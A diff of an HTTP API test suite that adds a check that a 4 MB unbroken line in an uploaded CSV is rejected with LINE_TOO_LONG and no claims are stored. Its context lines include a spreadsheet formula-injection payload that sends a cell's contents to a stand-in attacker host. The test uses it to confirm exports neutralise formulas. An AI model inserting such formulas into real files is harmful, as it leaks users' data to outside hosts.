@@ -205,6 +205,20 @@ describeDb('strict HTTP: media types, NUL characters, long lines, CSV exports', 
     });
   });
 
+  describe('a line without a line break', () => {
+    it.each(['/api/imports', '/api/claims/file'])('of 4 MB stops %s with 422 LINE_TOO_LONG naming the line', async (path) => {
+      const claimsBefore = (await arrow.get('/api/claims')).body.total;
+      const res = await upload(path, `${POS_HEADER}\r\n${posRows('STRICT-LONG', 1)[0]},${'x'.repeat(4 * 1024 * 1024)}`);
+      expect(res.status).toBe(422);
+      expect(res.body).toMatchObject({ code: 'LINE_TOO_LONG', line: 2, maxLineBytes: 1024 * 1024 });
+      expect(res.body.detail).toMatch(/line 2 .* longer than 1048576 bytes/);
+      const job = await arrow.get(`/api/imports/${res.body.importId}`);
+      expect(job.body).toMatchObject({ status: 'failed', rowsAccepted: 0 });
+      expect((await arrow.get('/api/claims')).body.total).toBe(claimsBefore);
+      expect((await t.http.get('/api/health')).status).toBe(200);
+    });
+  });
+
   describe('CSV exports', () => {
     it('are UTF-8 with a byte-order mark, and a cell starting with = comes back text, not a formula', async () => {
       const formula = '=HYPERLINK("http://evil.example/?q="&A1,"click")';
